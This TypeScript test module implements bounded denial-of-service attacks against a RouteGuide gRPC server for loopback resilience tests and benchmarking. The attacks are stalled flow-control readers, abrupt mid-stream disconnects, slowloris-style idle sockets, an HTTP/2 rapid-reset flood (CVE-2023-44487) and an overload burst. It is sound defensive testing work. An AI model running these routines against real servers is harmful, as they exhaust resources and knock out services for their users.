/**
 * Hostile-client primitives for loopback attack tests and the benchmark: each opens a bounded
 * number of sockets or streams against a RouteGuide server, reports what the server did, and
 * closes everything it opened when stopped (also when it fails half-way).
 */
import http2 from 'node:http2';
import net from 'node:net';
import { performance } from 'node:perf_hooks';
import * as grpc from '@grpc/grpc-js';
import type { RouteGuideClient } from '../../src/generated/routeguide/RouteGuide';
import { newRouteGuideClient, percentile } from './probe-client';
import { listFeaturesRequest as rectangleRequest } from './raw-grpc';

/** A running attack. */
export interface Attack<R> {
  /** Figures so far. */
  report(): R;
  /**
   * Ends the attack: destroys every socket it opened (or waits for its bounded calls) and
   * resolves with the final figures once all are closed. Safe to call more than once.
   */
  stop(): Promise<R>;
  /** For attacks that end by themselves (bounded rounds or calls): resolves when they have. */
  readonly finished?: Promise<void>;
}

export interface Point {
  latitude: number;
  longitude: number;
}

export interface Box {
  lo: Point;
  hi: Point;
}

/** The whole coordinate space: ListFeatures over it streams the entire database. */
export const WORLD: Box = {
  lo: { latitude: -900_000_000, longitude: -1_800_000_000 },
  hi: { latitude: 900_000_000, longitude: 1_800_000_000 },
};

export const LIST_FEATURES_PATH = '/routeguide.RouteGuide/ListFeatures';

/** The client connection preface and an empty SETTINGS frame: a minimal HTTP/2 handshake. */
export const CLIENT_HANDSHAKE = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'),
  Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]),
]);

/** A ListFeatures request body for `box`: one length-prefixed `Rectangle` message. */
export function listFeaturesRequest(box: Box = WORLD): Buffer {
  return rectangleRequest(box.lo, box.hi);
}

function hostPort(address: string): { host: string; port: number } {
  const colon = address.lastIndexOf(':');
  return { host: address.slice(0, colon), port: Number(address.slice(colon + 1)) };
}

function ignore(): void {
  /* errors of attack sockets are expected: the attacker destroys them, or the server does */
}

/** Destroys sockets and resolves once each has emitted `close` (bounded by `timeoutMs`). */
async function destroyAll(sockets: Iterable<net.Socket>, timeoutMs = 10_000): Promise<void> {
  const closing = [...sockets].map(
    (socket) =>
      new Promise<void>((resolve) => {
        if (socket.closed) return resolve();
        socket.once('close', () => resolve());
        socket.destroy();
      }),
  );
  let timer: NodeJS.Timeout | undefined;
  await Promise.race([
    Promise.all(closing),
    new Promise((resolve) => (timer = setTimeout(resolve, timeoutMs))),
  ]);
  clearTimeout(timer);
}

/** Opens an HTTP/2 session over a socket the caller can destroy; rejects after `timeoutMs`. */
function openSession(
  address: string,
  settings: http2.Settings,
  timeoutMs: number,
): Promise<{ session: http2.ClientHttp2Session; socket: net.Socket }> {
  const socket = net.connect(hostPort(address));
  socket.on('error', ignore);
  const session = http2.connect(`http://${address}`, { settings, createConnection: () => socket });
  session.on('error', ignore);
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => {
      socket.destroy();
      reject(new Error(`HTTP/2 session to ${address} not established within ${timeoutMs} ms`));
    }, timeoutMs);
    session.once('connect', () => {
      clearTimeout(timer);
      resolve({ session, socket });
    });
    session.once('close', () => {
      clearTimeout(timer);
      reject(new Error(`HTTP/2 session to ${address} closed before it was established`));
    });
  });
}

/** Opens `count` sessions, all or none: on failure the ones already open are destroyed. */
async function openSessions(
  address: string,
  count: number,
  settings: http2.Settings,
  timeoutMs: number,
): Promise<{ session: http2.ClientHttp2Session; socket: net.Socket }[]> {
  const results = await Promise.allSettled(
    Array.from({ length: count }, () => openSession(address, settings, timeoutMs)),
  );
  const open = results.flatMap((r) => (r.status === 'fulfilled' ? [r.value] : []));
  const failed = results.find((r): r is PromiseRejectedResult => r.status === 'rejected');
  if (failed !== undefined) {
    await destroyAll(open.map((o) => o.socket));
    throw failed.reason;
  }
  return open;
}

function grpcStatusOf(headers: http2.IncomingHttpHeaders): number | undefined {
  const value = headers['grpc-status'];
  return value === undefined ? undefined : Number(value);
}

function requestHeaders(path: string): http2.OutgoingHttpHeaders {
  return { ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' };
}

// --- stalled readers -------------------------------------------------------------------------

export interface StalledReadersOptions {
  /** ListFeatures streams in total. */
  readonly streams: number;
  /** Connections they are spread over (round robin). */
  readonly connections: number;
  /** The rectangle each stream asks for. Default {@link WORLD}. */
  readonly box?: Box;
  /**
   * The client's SETTINGS_INITIAL_WINDOW_SIZE: what the server may send on a stream before it
   * must wait for a WINDOW_UPDATE, which this client never sends. Default 1024 bytes.
   */
  readonly initialWindowSize?: number;
  /** Longest wait for connections, and then for the server to answer the streams. Default 10 s. */
  readonly openTimeoutMs?: number;
}

export interface StalledReadersReport {
  readonly connections: number;
  /** Streams requested. */
  readonly streams: number;
  /** Streams that got response headers with no status yet: the server is serving them. */
  readonly answered: number;
  /** Streams the server ended with a non-OK grpc-status, by status. */
  readonly refused: Record<string, number>;
  /** Streams reset by the server or whose session the server closed, before the attacker stopped. */
  readonly resetByServer: number;
  /** performance.now() when the last socket closed (after stop), else NaN. */
  readonly closedAt: number;
}

/**
 * ListFeatures streams whose client never reads: the server's flow-control window fills after
 * `initialWindowSize` bytes and every further feature waits in the server. `stop()` then
 * vanishes: the sockets are destroyed without closing a stream.
 */
export async function stalledReaders(
  address: string,
  options: StalledReadersOptions,
): Promise<Attack<StalledReadersReport>> {
  const openTimeoutMs = options.openTimeoutMs ?? 10_000;
  const sessions = await openSessions(
    address,
    options.connections,
    { initialWindowSize: options.initialWindowSize ?? 1024, enablePush: false },
    openTimeoutMs,
  );
  const body = listFeaturesRequest(options.box ?? WORLD);
  const refused: Record<string, number> = {};
  let answered = 0;
  let resetByServer = 0;
  let stopping = false;
  let closedAt = NaN;
  const settled: Promise<void>[] = [];
  for (let i = 0; i < options.streams; i++) {
    const { session } = sessions[i % sessions.length]!;
    if (session.closed || session.destroyed) break;
    const stream = session.request(requestHeaders(LIST_FEATURES_PATH));
    stream.on('error', ignore);
    // Never read: no 'data' listener, and the stream stays paused.
    stream.pause();
    settled.push(
      new Promise<void>((resolve) => {
        const outcome = (headers: http2.IncomingHttpHeaders): void => {
          const status = grpcStatusOf(headers);
          if (status === undefined) answered++;
          else if (status !== grpc.status.OK) {
            const name = grpc.status[status] ?? String(status);
            refused[name] = (refused[name] ?? 0) + 1;
          }
          resolve();
        };
        stream.once('response', outcome);
        stream.once('trailers', outcome);
        stream.once('close', () => {
          if (!stopping && stream.rstCode !== http2.constants.NGHTTP2_NO_ERROR) resetByServer++;
          resolve();
        });
      }),
    );
    stream.end(body);
  }
  // Every stream answered (or refused, or reset), or the server is too slow to tell.
  let timer: NodeJS.Timeout | undefined;
  await Promise.race([
    Promise.all(settled),
    new Promise((resolve) => (timer = setTimeout(resolve, openTimeoutMs))),
  ]);
  clearTimeout(timer);
  const report = (): StalledReadersReport => ({
    connections: sessions.length,
    streams: options.streams,
    answered,
    refused: { ...refused },
    resetByServer,
    closedAt,
  });
  let stopped: Promise<StalledReadersReport> | undefined;
  return {
    report,
    stop: () =>
      (stopped ??= (async () => {
        stopping = true;
        await destroyAll(sessions.map((s) => s.socket));
        closedAt = performance.now();
        return report();
      })()),
  };
}

// --- vanish mid-stream -----------------------------------------------------------------------

export interface VanishOptions {
  /** Connections opened each round. */
  readonly connections: number;
  /** ListFeatures streams per connection each round. */
  readonly streamsPerConnection: number;
  /** Bytes a stream reads before the round's sockets are destroyed. Default 64 KiB. */
  readonly readBytes?: number;
  /** Longest a round waits for its streams to read `readBytes`. Default 2000 ms. */
  readonly roundTimeoutMs?: number;
  /** Rounds at most (the attack also ends on stop()). Default 1000. */
  readonly maxRounds?: number;
  readonly box?: Box;
}

export interface VanishReport {
  readonly rounds: number;
  readonly streams: number;
  readonly bytesReceived: number;
  readonly closedAt: number;
  /** Why the rounds stopped early (a connection the server did not accept in time). */
  readonly failure?: string;
}

/**
 * Round after round: opens connections with ListFeatures streams that read normally, and once
 * each has read `readBytes` destroys the sockets abruptly (no RST_STREAM, no GOAWAY), leaving
 * the server with streams cut mid-way.
 */
export function vanishMidStream(address: string, options: VanishOptions): Attack<VanishReport> {
  const readBytes = options.readBytes ?? 64 * 1024;
  const roundTimeoutMs = options.roundTimeoutMs ?? 2000;
  const maxRounds = options.maxRounds ?? 1000;
  const body = listFeaturesRequest(options.box ?? WORLD);
  let rounds = 0;
  let streams = 0;
  let bytesReceived = 0;
  let running = true;
  let closedAt = NaN;
  const round = async (): Promise<void> => {
    const sessions = await openSessions(address, options.connections, {}, 10_000);
    try {
      const reads = sessions.flatMap(({ session }) =>
        Array.from({ length: options.streamsPerConnection }, () => {
          const stream = session.request(requestHeaders(LIST_FEATURES_PATH));
          stream.on('error', ignore);
          streams++;
          return new Promise<void>((resolve) => {
            let read = 0;
            stream.on('data', (chunk: Buffer) => {
              read += chunk.length;
              bytesReceived += chunk.length;
              if (read >= readBytes) resolve();
            });
            stream.once('close', () => resolve());
            stream.end(body);
          });
        }),
      );
      let timer: NodeJS.Timeout | undefined;
      await Promise.race([
        Promise.all(reads),
        new Promise((resolve) => (timer = setTimeout(resolve, roundTimeoutMs))),
      ]);
      clearTimeout(timer);
    } finally {
      await destroyAll(sessions.map((s) => s.socket));
    }
    rounds++;
  };
  let failure: string | undefined;
  const loop = (async () => {
    try {
      while (running && rounds < maxRounds) await round();
    } catch (error) {
      // The server stopped taking connections: the attack ends and says so.
      failure = (error as Error).message;
    }
    closedAt = performance.now();
  })();
  const report = (): VanishReport => ({
    rounds,
    streams,
    bytesReceived,
    closedAt,
    ...(failure === undefined ? {} : { failure }),
  });
  return {
    report,
    finished: loop,
    stop: async () => {
      running = false;
      await loop;
      return report();
    },
  };
}

// --- sockets that never finish the handshake -------------------------------------------------

export interface IdleSocketsOptions {
  /** TCP connections to open. */
  readonly count: number;
  /** Connection attempts in flight at once. Default 256. */
  readonly concurrency?: number;
  /** Longest wait for one connection attempt. Default 5000 ms. */
  readonly connectTimeoutMs?: number;
  /**
   * When set, each socket sends the client handshake ({@link CLIENT_HANDSHAKE}) one byte per
   * this many milliseconds (a slowloris handshake); unset, a socket sends nothing at all.
   */
  readonly byteIntervalMs?: number;
}

export interface IdleSocketsReport {
  /** Connections requested. */
  readonly count: number;
  readonly connected: number;
  /** Connection attempts that failed or timed out. */
  readonly failed: number;
  /** Sockets the server closed before the attacker stopped. */
  readonly closedByServer: number;
  /** Median time from connect to the server closing it, NaN when it closed none. */
  readonly serverCloseP50Ms: number;
  /** Handshake bytes sent over all sockets. */
  readonly bytesSent: number;
  readonly closedAt: number;
}

/**
 * TCP connections that never send the HTTP/2 client preface (or, with `byteIntervalMs`, send
 * it byte by byte), held open until stopped. Counts how many the server closes, and when.
 */
export async function idleSockets(
  address: string,
  options: IdleSocketsOptions,
): Promise<Attack<IdleSocketsReport>> {
  const { host, port } = hostPort(address);
  const concurrency = options.concurrency ?? 256;
  const connectTimeoutMs = options.connectTimeoutMs ?? 5000;
  const sockets = new Set<net.Socket>();
  const sent = new Map<net.Socket, number>();
  const serverCloseMs: number[] = [];
  let connected = 0;
  let failed = 0;
  let bytesSent = 0;
  let stopping = false;
  let closedAt = NaN;
  const connectOne = (): Promise<void> =>
    new Promise((resolve) => {
      const socket = net.connect({ host, port });
      sockets.add(socket);
      let connectedAt = NaN;
      const timer = setTimeout(() => socket.destroy(), connectTimeoutMs);
      socket.on('error', ignore);
      socket.once('connect', () => {
        clearTimeout(timer);
        connectedAt = performance.now();
        connected++;
        resolve();
      });
      // Whatever the server sends (its SETTINGS, a GOAWAY) is read and dropped.
      socket.on('data', ignore);
      socket.once('close', () => {
        clearTimeout(timer);
        sockets.delete(socket);
        sent.delete(socket);
        if (Number.isNaN(connectedAt)) {
          failed++;
          resolve();
        } else if (!stopping) {
          serverCloseMs.push(performance.now() - connectedAt);
        }
      });
      if (options.byteIntervalMs !== undefined) sent.set(socket, 0);
    });
  const dribble =
    options.byteIntervalMs === undefined
      ? undefined
      : setInterval(() => {
          for (const [socket, offset] of sent) {
            if (offset >= CLIENT_HANDSHAKE.length || !socket.writable || socket.connecting)
              continue;
            socket.write(CLIENT_HANDSHAKE.subarray(offset, offset + 1));
            sent.set(socket, offset + 1);
            bytesSent++;
          }
        }, options.byteIntervalMs);
  const stop = async (): Promise<void> => {
    stopping = true;
    if (dribble !== undefined) clearInterval(dribble);
    await destroyAll(sockets);
    closedAt = performance.now();
  };
  try {
    let next = 0;
    await Promise.all(
      Array.from({ length: Math.min(concurrency, options.count) }, async () => {
        while (next < options.count && !stopping) {
          next++;
          await connectOne();
        }
      }),
    );
  } catch (error) {
    await stop();
    throw error;
  }
  const report = (): IdleSocketsReport => {
    const sorted = Float64Array.from(serverCloseMs).sort();
    return {
      count: options.count,
      connected,
      failed,
      closedByServer: serverCloseMs.length,
      serverCloseP50Ms: percentile(sorted, 0.5),
      bytesSent,
      closedAt,
    };
  };
  let stopped: Promise<IdleSocketsReport> | undefined;
  return { report, stop: () => (stopped ??= stop().then(report)) };
}

// --- rapid reset -----------------------------------------------------------------------------

export interface RapidResetOptions {
  /** Streams opened and reset at most. Default 20,000. */
  readonly maxStreams?: number;
  /** Streams per event-loop turn. Default 100. */
  readonly batch?: number;
  /** Longest the attack runs. Default 10 s. */
  readonly maxMs?: number;
  /**
   * Send the whole-world request message before the reset. Default false: HEADERS alone, so
   * the server has not answered yet when the reset arrives, which is what its reset rate limit
   * (nghttp2's, in Node) counts; with the request the handler answers at once and runs.
   */
  readonly withRequest?: boolean;
}

export interface RapidResetReport {
  /** Streams opened (each a ListFeatures request, reset at once). */
  readonly streams: number;
  /** Whether the server closed the session (GOAWAY or socket closed) before the attacker stopped. */
  readonly cutOff: boolean;
  /** Streams sent before the cut-off, when there was one. */
  readonly streamsBeforeCutOff: number;
  readonly goawayCode: number | undefined;
  readonly closedAt: number;
}

/**
 * HTTP/2 rapid reset (CVE-2023-44487): on one connection, opens ListFeatures streams in
 * batches and cancels each with RST_STREAM right after its HEADERS, as fast as the socket takes
 * them, until the server cuts the connection off or the bounds are reached.
 */
export async function rapidReset(
  address: string,
  options: RapidResetOptions = {},
): Promise<Attack<RapidResetReport>> {
  const maxStreams = options.maxStreams ?? 20_000;
  const batch = options.batch ?? 100;
  const maxMs = options.maxMs ?? 10_000;
  const { session, socket } = await openSession(address, {}, 10_000);
  const body = options.withRequest === true ? listFeaturesRequest(WORLD) : undefined;
  let streams = 0;
  let cutOffAt: number | undefined;
  let goawayCode: number | undefined;
  let halted = false;
  let stopping = false;
  let closedAt = NaN;
  session.once('goaway', (code: number) => {
    goawayCode = code;
    if (!stopping) cutOffAt ??= streams;
  });
  session.once('close', () => {
    if (!stopping) cutOffAt ??= streams;
  });
  const until = performance.now() + maxMs;
  const loop = (async () => {
    while (
      !halted &&
      cutOffAt === undefined &&
      streams < maxStreams &&
      performance.now() < until &&
      !session.closed &&
      !session.destroyed
    ) {
      const batchOf: http2.ClientHttp2Stream[] = [];
      try {
        for (let i = 0; i < batch && streams < maxStreams; i++) {
          const stream = session.request(requestHeaders(LIST_FEATURES_PATH));
          stream.on('error', ignore);
          if (body !== undefined) stream.end(body);
          batchOf.push(stream);
          streams++;
        }
      } catch {
        // The session went away under us (ERR_HTTP2_INVALID_SESSION, GOAWAY received).
        cutOffAt ??= streams;
      }
      // One turn later the HEADERS are on the wire (a stream reset before then is dropped by
      // the client and never reaches the server); then every stream of the batch is reset.
      await new Promise((resolve) => setImmediate(resolve));
      const closed = batchOf.map(
        (stream) =>
          new Promise<void>((resolve) => {
            if (stream.closed) return resolve();
            stream.once('close', () => resolve());
            stream.close(http2.constants.NGHTTP2_CANCEL);
          }),
      );
      let timer: NodeJS.Timeout | undefined;
      await Promise.race([
        Promise.all(closed),
        new Promise((resolve) => (timer = setTimeout(resolve, 2000))),
      ]);
      clearTimeout(timer);
    }
  })();
  const report = (): RapidResetReport => ({
    streams,
    cutOff: cutOffAt !== undefined,
    streamsBeforeCutOff: cutOffAt ?? NaN,
    goawayCode,
    closedAt,
  });
  let stopped: Promise<RapidResetReport> | undefined;
  return {
    report,
    finished: loop,
    stop: () =>
      (stopped ??= (async () => {
        halted = true;
        await loop;
        stopping = true;
        await destroyAll([socket]);
        closedAt = performance.now();
        return report();
      })()),
  };
}

// --- overload burst --------------------------------------------------------------------------

export interface OverloadOptions {
  /** ListFeatures calls started at once. */
  readonly calls: number;
  /** Channels (connections) they are spread over. Default 4. */
  readonly connections?: number;
  /** Deadline of each call. Default 5000 ms. */
  readonly deadlineMs?: number;
  /** Half the side of each call's square box, in degrees. Default 5 (a 10°×10° box). */
  readonly halfSideDegrees?: number;
}

export interface CallClass {
  readonly count: number;
  readonly p50Ms: number;
  readonly p99Ms: number;
  readonly maxMs: number;
}

export interface OverloadReport {
  readonly calls: number;
  /** Calls that completed with OK. */
  readonly ok: CallClass;
  /** Calls refused with UNAVAILABLE or RESOURCE_EXHAUSTED (shed load). */
  readonly refused: CallClass;
  /** Calls that ran past their deadline. */
  readonly deadlineExceeded: CallClass;
  /** Any other status, by name. */
  readonly other: Record<string, number>;
  readonly features: number;
  readonly closedAt: number;
}

function callClass(ms: number[]): CallClass {
  const sorted = Float64Array.from(ms).sort();
  return {
    count: ms.length,
    p50Ms: percentile(sorted, 0.5),
    p99Ms: percentile(sorted, 0.99),
    maxMs: percentile(sorted, 1),
  };
}

/** Deterministic box centres spread over the globe (a fixed linear congruential sequence). */
function burstBoxes(count: number, halfSideDegrees: number): Box[] {
  let state = 12345;
  const next = (): number => {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
    return state / 2 ** 32;
  };
  const half = Math.round(halfSideDegrees * 1e7);
  return Array.from({ length: count }, () => {
    const latitude = Math.round((next() * 160 - 80) * 1e7);
    const longitude = Math.round((next() * 340 - 170) * 1e7);
    return {
      lo: { latitude: latitude - half, longitude: longitude - half },
      hi: { latitude: latitude + half, longitude: longitude + half },
    };
  });
}

/**
 * A burst of `calls` concurrent ListFeatures over small boxes from a fast client (it reads
 * everything at once), each with a deadline: more than a server can serve in time. Stop waits
 * for every call to end, which its deadline bounds.
 */
export function overloadBurst(address: string, options: OverloadOptions): Attack<OverloadReport> {
  const deadlineMs = options.deadlineMs ?? 5000;
  const clients: RouteGuideClient[] = Array.from({ length: options.connections ?? 4 }, () =>
    newRouteGuideClient(address),
  );
  const ok: number[] = [];
  const refused: number[] = [];
  const late: number[] = [];
  const other: Record<string, number> = {};
  let features = 0;
  let closedAt = NaN;
  const boxes = burstBoxes(options.calls, options.halfSideDegrees ?? 5);
  const calls = boxes.map(
    (box, i) =>
      new Promise<void>((resolve) => {
        const started = performance.now();
        const call = clients[i % clients.length]!.ListFeatures(box, {
          deadline: Date.now() + deadlineMs,
        });
        call.on('data', () => features++);
        call.on('status', ({ code }: grpc.StatusObject) => {
          const ms = performance.now() - started;
          if (code === grpc.status.OK) ok.push(ms);
          else if (code === grpc.status.UNAVAILABLE || code === grpc.status.RESOURCE_EXHAUSTED)
            refused.push(ms);
          else if (code === grpc.status.DEADLINE_EXCEEDED) late.push(ms);
          else {
            const name = grpc.status[code] ?? String(code);
            other[name] = (other[name] ?? 0) + 1;
          }
          resolve();
        });
        call.on('error', ignore);
      }),
  );
  const report = (): OverloadReport => ({
    calls: options.calls,
    ok: callClass(ok),
    refused: callClass(refused),
    deadlineExceeded: callClass(late),
    other: { ...other },
    features,
    closedAt,
  });
  let stopped: Promise<OverloadReport> | undefined;
  return {
    report,
    finished: Promise.all(calls).then(() => undefined),
    stop: () =>
      (stopped ??= (async () => {
        await Promise.all(calls);
        for (const client of clients) client.close();
        closedAt = performance.now();
        return report();
      })()),
  };
}
